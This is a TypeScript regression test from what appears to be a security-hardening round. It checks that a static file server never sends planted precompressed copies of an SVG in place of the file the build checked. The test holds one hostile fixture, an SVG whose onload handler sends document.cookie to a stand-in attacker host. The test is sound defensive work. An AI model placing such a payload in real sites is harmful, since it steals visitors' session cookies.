// Issue 33 (hardening, second round), finding 1: a checked, harmless dot.svg with a planted dot.svg.gz beside it (the
// build does not compress files under 256 bytes, so the planted copy survived) was sent instead of the checked file.
// `npm start` now sends only the compressed copies the build made and listed.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync, gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { precompressSite } from '../../scripts/lib/precompress';
import { createStaticServer } from '../../src/server/staticServer';

const work = mkdtempSync(join(tmpdir(), 'planted-copies-'));
const dist = join(work, 'dist');
const DOT = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><circle cx="1" cy="1" r="1"/></svg>';
const PLANTED = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://attacker.example/\'+document.cookie)"/>';
const PAGE = `<!doctype html><title>About</title><p>${'About us. '.repeat(60)}</p>`;
let server: Server;
let base = '';

beforeAll(async () => {
  mkdirSync(join(dist, 'images'), { recursive: true });
  mkdirSync(join(dist, 'about'), { recursive: true });
  writeFileSync(join(dist, 'images/dot.svg'), DOT);
  writeFileSync(join(dist, 'about/index.html'), PAGE);
  writeFileSync(join(dist, '404.html'), '<!doctype html><title>Not found</title>');
  // As the build leaves it: the page's compressed copies, listed.
  await precompressSite(dist);
  // Planted afterwards: compressed copies of the small picture, which the build never made.
  writeFileSync(join(dist, 'images/dot.svg.gz'), gzipSync(PLANTED));
  writeFileSync(join(dist, 'images/dot.svg.br'), brotliCompressSync(PLANTED));
  server = createStaticServer(dist);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((done) => server.close(done));
  rmSync(work, { recursive: true, force: true });
});

const get = async (path: string, acceptEncoding: string) => {
  const response = await fetch(`${base}${path}`, { headers: { 'accept-encoding': acceptEncoding } });
  return { encoding: response.headers.get('content-encoding'), body: Buffer.from(await response.arrayBuffer()) };
};

describe('compressed copies the build did not make are never sent (finding 1)', () => {
  it.each(['gzip', 'br', 'gzip, deflate, br'])('the checked picture, not the planted copy, for Accept-Encoding: %s', async (acceptEncoding) => {
    // fetch decodes what it is sent: the body is the picture as the visitor's browser would see it.
    const { body } = await get('/images/dot.svg', acceptEncoding);
    expect(body.toString()).toBe(DOT);
  });

  it('the planted copy is served only as the file it is, at its own address', async () => {
    const response = await fetch(`${base}/images/dot.svg.gz`, { headers: { 'accept-encoding': 'identity' } });
    expect(response.headers.get('content-encoding')).toBeNull();
    expect(gunzipSync(Buffer.from(await response.arrayBuffer())).toString()).toBe(PLANTED);
  });

  it('the copies the build made are still sent', async () => {
    const response = await fetch(`${base}/about`, { headers: { 'accept-encoding': 'br' } });
    expect(response.headers.get('content-encoding')).toBe('br');
    expect(response.headers.get('content-length')).not.toBeNull();
    expect(await response.text()).toBe(PAGE);
  });
});
